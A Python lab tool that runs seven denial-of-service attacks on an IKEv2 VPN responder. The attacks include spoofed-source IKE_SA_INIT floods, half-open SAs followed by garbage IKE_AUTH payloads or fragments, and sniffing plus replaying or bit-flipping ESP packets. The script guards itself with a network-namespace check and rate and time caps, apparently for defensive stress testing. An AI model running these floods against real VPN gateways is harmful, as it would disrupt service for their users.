#!/usr/bin/env python3
"""Attacks on an IKEv2 responder, for lab/flood.sh. Only inside a network namespace made for it, bounded in rate and time.

usage: flood.py PEER ATTACK [RATE] [SECONDS]

  forged      IKE_SA_INIT from addresses of 10.66.0.0/16 that answer nothing
  real        IKE_SA_INIT from the own address, cookies answered, nothing after it
  cookies     IKE_SA_INIT with wrong cookies from forged addresses
  fragments   half-open SAs, then fragments (RFC 7383) of an IKE_AUTH that nobody sealed
  auth        half-open SAs, then an SK payload of garbage as IKE_AUTH
  esp         replays and damages ESP packets that it sees on the wire (UDP port 4500)
  info        an authenticated peer that sends INFORMATIONAL requests as fast as they are answered

FLOOD_FROM is the own address that real ones come from. RATE is packets per second (default 5000), SECONDS at most 30. Prints one line: packets sent, answers seen.
"""
import ctypes, hashlib, hmac, os, select, signal, socket, struct, subprocess, sys, time

LIMIT_RATE, LIMIT_TIME = 50_000, 30
PSK, ME = b"labsecret-psk-0123456789", b"flood.lab.test"

def payload(nxt, body):
    return struct.pack(">BBH", nxt, 0, len(body) + 4) + body

def transform(last, kind, ident, attr=b""):
    return struct.pack(">BBHBBH", 0 if last else 3, 0, 8 + len(attr), kind, 0, ident) + attr

def proposal(protocol, spi, transforms):
    body = b"".join(transforms)
    return struct.pack(">BBHBBBB", 0, 0, 8 + len(spi) + len(body), 1, protocol, len(spi), len(transforms)) + spi + body

IKE = [transform(False, 1, 20, struct.pack(">HH", 0x800E, 128)), transform(False, 2, 5), transform(True, 4, 19)]
ESP = [transform(False, 1, 20, struct.pack(">HH", 0x800E, 128)), transform(True, 5, 0)]
# The curve's base point: a public value that costs the attacker nothing and the responder a real computation.
G = bytes.fromhex("6b17d1f2e12c4247f8bce6e563a440f277037d812deb33a0f4a13945d898c296"
                  "4fe342e2fe1a7f9b8ee7eb4a7c0f9e162bce33576b315ececbb6406837bf51f5")

def header(spi_i, spi_r, nxt, exchange, flags, mid, length):
    return struct.pack(">8s8sBBBBII", spi_i, spi_r, nxt, 0x20, exchange, flags, mid, length)

def sa_init(spi, public=G, nonce=None, cookie=None):
    nonce = nonce or os.urandom(32)
    chain = [(33, proposal(1, b"", IKE)), (34, struct.pack(">HH", 19, 0) + public), (40, nonce), (41, struct.pack(">BBH", 0, 0, 16430))]
    if cookie is not None:
        chain.insert(0, (41, struct.pack(">BBH", 0, 0, 16390) + cookie))
    body = b"".join(payload(chain[i + 1][0] if i + 1 < len(chain) else 0, b) for i, (_, b) in enumerate(chain))
    return header(spi, bytes(8), chain[0][0], 34, 0x08, 0, 28 + len(body)) + body

def notifies(data):
    nxt, at = data[16], 28
    while nxt and at + 4 <= len(data):
        following, _, length = struct.unpack(">BBH", data[at:at + 4])
        yield nxt, data[at + 4:at + length]
        nxt, at = following, at + max(length, 4)

def cookie_of(data):
    for kind, body in notifies(data):
        if kind == 41 and body[2:4] == struct.pack(">H", 16390):
            return body[4:]

class Pace:
    """Sends at a rate, in bursts of a hundredth of a second."""
    def __init__(self, rate, seconds):
        self.rate, self.end, self.sent, self.start = rate, time.monotonic() + seconds, 0, time.monotonic()
    def __iter__(self):
        while (now := time.monotonic()) < self.end:
            due = int((now - self.start) * self.rate) - self.sent
            for _ in range(min(due, self.rate // 20 + 1)):
                self.sent += 1
                yield self.sent
            time.sleep(0.002)

def ip_udp(source, peer, data):
    udp = struct.pack(">HHHH", 500, 500, 8 + len(data), 0)
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + 8 + len(data), 0, 0, 64, 17, 0, source, socket.inet_aton(peer))
    return head + udp + data

def forged(peer, pace, make):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        for n in pace:
            source = bytes([10, 66]) + os.urandom(2)
            s.sendto(ip_udp(source, peer, make(n)), (peer, 0))
    return 0

def udp(port=0):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((os.environ.get("FLOOD_FROM", ""), port))
    s.setblocking(False)
    return s

def drain(s, peer, answers):
    count = 0
    while True:
        try:
            data = s.recv(4096)
        except BlockingIOError:
            return count
        count += 1
        answers(data)

def real(peer, pace):
    seen, pending = 0, {}
    with udp() as s:
        def answers(data):
            cookie, asked = cookie_of(data), pending.pop(data[:8], None)
            if cookie and asked:
                s.sendto(sa_init(data[:8], nonce=asked, cookie=cookie), (peer, 500))
        for n in pace:
            spi, nonce = os.urandom(8), os.urandom(32)
            pending[spi] = nonce
            if len(pending) > 5000:
                pending.clear()
            s.sendto(sa_init(spi, nonce=nonce), (peer, 500))
            if n % 16 == 0:
                seen += drain(s, peer, answers)
    return seen

def half_open(s, peer, count):
    """SPIs of half-open SAs, with cookies answered."""
    out = []
    for _ in range(count):
        spi, nonce = os.urandom(8), os.urandom(32)
        request = sa_init(spi, nonce=nonce)
        for _ in range(2):
            s.sendto(request, (peer, 500))
            if not select.select([s], [], [], 0.3)[0]:
                break
            data = s.recv(4096)
            cookie = cookie_of(data)
            if not cookie:
                if data[:8] == spi and data[8:16] != bytes(8):
                    out.append((spi, data[8:16]))
                break
            request = sa_init(spi, nonce=nonce, cookie=cookie)
    return out

def garbage(peer, pace, fragment):
    with udp() as s:
        spis = half_open(s, peer, 16)
        for n in pace:
            if not spis:
                return 0
            spi_i, spi_r = spis[n % len(spis)]
            junk = os.urandom(480)
            if fragment:
                junk = struct.pack(">HH", n % 7 + 1, 8) + junk
            kind = 53 if fragment else 46
            body = payload(35 if not fragment or n % 7 == 0 else 0, junk)
            s.sendto(header(spi_i, spi_r, kind, 35, 0x08, 1, 28 + len(body)) + body, (peer, 500))
            if n % 64 == 0:
                drain(s, peer, lambda d: None)
    return len(spis)

def esp(peer, pace):
    """Takes ESP in UDP towards the peer off the wire and sends it again: as it was, or with one octet changed."""
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    wire.setblocking(False)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    taken, to = [], socket.inet_aton(peer)
    for n in pace:
        if n % 32 == 0 or not taken:
            for _ in range(50):
                try:
                    frame = wire.recv(4096)
                except BlockingIOError:
                    break
                ip = frame[14:]
                esp_in_udp = len(ip) > 36 and ip[9] == 17 and ip[16:20] == to and ip[22:24] == b"\x11\x94" and ip[28:32] != bytes(4)
                if esp_in_udp and ip not in taken and len(taken) < 64:
                    taken.append(ip)
        if not taken:
            continue
        packet = taken[n % len(taken)]
        if n % 2:
            at = 36 + n % (len(packet) - 36)
            # Another sequence number, so that the window does not sort it out before the check value.
            packet = packet[:32] + struct.pack(">I", n + 1000) + packet[36:at] + bytes([packet[at] ^ 1]) + packet[at + 1:]
        packet = packet[:26] + b"\0\0" + packet[28:]
        raw.sendto(packet, (peer, 0))
    return len(taken)

class Peer:
    """A small initiator: ECP-256, AES-128-GCM, PRF-HMAC-SHA2-256, pre-shared key."""
    def __init__(self, s, peer):
        from cryptography.hazmat.primitives.asymmetric import ec
        from cryptography.hazmat.primitives.ciphers.aead import AESGCM
        self.s, self.peer, self.mid, self.count = s, peer, 0, 0
        key = ec.generate_private_key(ec.SECP256R1())
        n = key.public_key().public_numbers()
        public = n.x.to_bytes(32, "big") + n.y.to_bytes(32, "big")
        spi, ni, cookie = os.urandom(8), os.urandom(32), None
        for _ in range(3):
            first = sa_init(spi, public, ni, cookie)
            answer = self.ask(first)
            cookie = cookie_of(answer)
            if not cookie:
                break
        found = dict(notifies(answer))
        nr, theirs = found[40], found[34][4:]
        point = ec.EllipticCurvePublicNumbers(int.from_bytes(theirs[:32], "big"), int.from_bytes(theirs[32:], "big"), ec.SECP256R1())
        shared = key.exchange(ec.ECDH(), point.public_key())
        self.spi_i, self.spi_r = spi, answer[8:16]
        prf = lambda k, d: hmac.new(k, d, hashlib.sha256).digest()
        seed, seed2, t, stream = prf(ni + nr, shared), ni + nr + self.spi_i + self.spi_r, b"", b""
        for i in range(1, 8):
            t = prf(seed, t + seed2 + bytes([i]))
            stream += t
        self.ei, self.er, pi = stream[32:52], stream[52:72], stream[72:104]
        self.seal_key, self.gcm = AESGCM(self.ei[:16]), AESGCM
        ident = struct.pack(">B3x", 2) + ME
        auth = prf(prf(PSK, b"Key Pad for IKEv2"), first + nr + prf(pi, ident))
        ts = lambda a, b: struct.pack(">B3xBBHHH4s4s", 1, 7, 0, 16, 0, 65535, socket.inet_aton(a), socket.inet_aton(b))
        inner = [(35, ident), (39, struct.pack(">B3x", 2) + auth), (33, proposal(3, os.urandom(4), ESP)),
                 (44, ts("10.10.9.0", "10.10.9.255")), (45, ts("10.10.2.0", "10.10.2.255"))]
        self.request(35, inner)

    def ask(self, data):
        for _ in range(4):
            self.s.sendto(data, (self.peer, 500))
            if select.select([self.s], [], [], 0.5)[0]:
                return self.s.recv(8192)
        raise SystemExit("the peer does not answer")

    def request(self, exchange, chain):
        self.mid += 1
        plain = b"".join(payload(chain[i + 1][0] if i + 1 < len(chain) else 0, b) for i, (_, b) in enumerate(chain)) + b"\0"
        length = 28 + 4 + 8 + len(plain) + 16
        aad = header(self.spi_i, self.spi_r, 46, exchange, 0x08, self.mid, length)
        aad += struct.pack(">BBH", chain[0][0] if chain else 0, 0, length - 28)
        iv = struct.pack(">Q", self.mid)
        answer = self.ask(aad + iv + self.seal_key.encrypt(self.ei[16:20] + iv, plain, aad))
        plain = self.gcm(self.er[:16]).decrypt(self.er[16:20] + answer[32:40], answer[40:], answer[:32])
        self.count += 1
        return answer[28], plain

def info(peer, pace):
    with udp(5000) as s:
        s.setblocking(True)
        p = Peer(s, peer)
        for _ in pace:
            p.request(37, [])
    return p.count

def main():
    if len(sys.argv) < 3:
        sys.exit(__doc__)
    peer, attack = sys.argv[1:3]
    rate = min(int(sys.argv[3]) if len(sys.argv) > 3 else 5000, LIMIT_RATE)
    seconds = min(float(sys.argv[4]) if len(sys.argv) > 4 else 10, LIMIT_TIME)
    named = subprocess.run(["ip", "netns", "identify", str(os.getpid())], stdout=subprocess.PIPE, text=True).stdout.strip()
    if not named:
        sys.exit("this runs only inside a network namespace made for it (lab/net.sh)")
    pace = Pace(rate, seconds)
    def stopped(*_):
        print(f"{pace.sent} sent in {time.monotonic() - pace.start:.1f} s", flush=True)
        os._exit(0)
    signal.signal(signal.SIGTERM, stopped)
    if attack == "forged":
        seen = forged(peer, pace, lambda n: sa_init(os.urandom(8)))
    elif attack == "cookies":
        seen = forged(peer, pace, lambda n: sa_init(os.urandom(8), cookie=b"\0" + os.urandom(32)))
    elif attack == "real":
        seen = real(peer, pace)
    elif attack in ("fragments", "auth"):
        seen = garbage(peer, pace, attack == "fragments")
    elif attack == "esp":
        seen = esp(peer, pace)
    elif attack == "info":
        seen = info(peer, pace)
    else:
        sys.exit(__doc__)
    print(f"{pace.sent} sent in {time.monotonic() - pace.start:.1f} s, {seen} answers")

main()
